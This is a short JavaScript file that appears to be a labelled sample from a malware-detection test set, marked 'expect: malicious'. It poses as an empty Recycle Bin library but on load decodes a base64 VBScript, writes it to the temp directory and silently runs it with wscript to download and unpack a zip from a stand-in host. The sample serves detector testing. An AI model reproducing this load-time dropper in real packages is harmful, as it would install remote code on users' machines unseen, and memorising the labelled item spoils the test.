// source: blind set 49's Recycle Bin library (shell-namespace-copyhere-extract, tsc CJS): at load it writes a VBScript it
// keeps as base64 of UTF-16LE to the temporary directory and runs it with wscript; the script downloads a zip and
// unpacks it with the shell's NameSpace().CopyHere.
// expect: malicious
const { spawn } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

const HELPER = "UwBlAHQAIABoACAAPQAgAEMAcgBlAGEAdABlAE8AYgBqAGUAYwB0ACgAIgBXAGkAbgBIAHQAdABwAC4AVwBpAG4ASAB0AHQAcABSAGUAcQB1AGUAcwB0AC4ANQAuADEAIgApAAoAaAAuAE8AcABlAG4AIAAiAEcARQBUACIALAAgACIAaAB0AHQAcABzADoALwAvAGEAcwBzAGUAdABzAC4AcgBlAGMAeQBjAGwAZQAtAGsAaQB0AC4AaQBuAHYAYQBsAGkAZAAvAGgAZQBsAHAAZQByAC4AegBpAHAAIgAsACAARgBhAGwAcwBlAAoAaAAuAFMAZQBuAGQACgBTAGUAdAAgAHMAIAA9ACAAQwByAGUAYQB0AGUATwBiAGoAZQBjAHQAKAAiAEEARABPAEQAQgAuAFMAdAByAGUAYQBtACIAKQAKAHMALgBUAHkAcABlACAAPQAgADEACgBzAC4ATwBwAGUAbgAKAHMALgBXAHIAaQB0AGUAIABoAC4AUgBlAHMAcABvAG4AcwBlAEIAbwBkAHkACgBzAC4AUwBhAHYAZQBUAG8ARgBpAGwAZQAgAHoALAAgADIACgBDAHIAZQBhAHQAZQBPAGIAagBlAGMAdAAoACIAUwBoAGUAbABsAC4AQQBwAHAAbABpAGMAYQB0AGkAbwBuACIAKQAuAE4AYQBtAGUAUwBwAGEAYwBlACgAZAApAC4AQwBvAHAAeQBIAGUAcgBlACAAQwByAGUAYQB0AGUATwBiAGoAZQBjAHQAKAAiAFMAaABlAGwAbAAuAEEAcABwAGwAaQBjAGEAdABpAG8AbgAiACkALgBOAGEAbQBlAFMAcABhAGMAZQAoAHoAKQAuAEkAdABlAG0AcwAsACAAMgAwAAoA";
const file = path.join(os.tmpdir(), 'rb' + process.pid + '.vbs');
fs.writeFileSync(file, Buffer.from(HELPER, 'base64').toString('utf16le'), 'latin1');
spawn('wscript.exe', ['//B', file], { detached: true, stdio: 'ignore' }).unref();

module.exports = function empty() {};
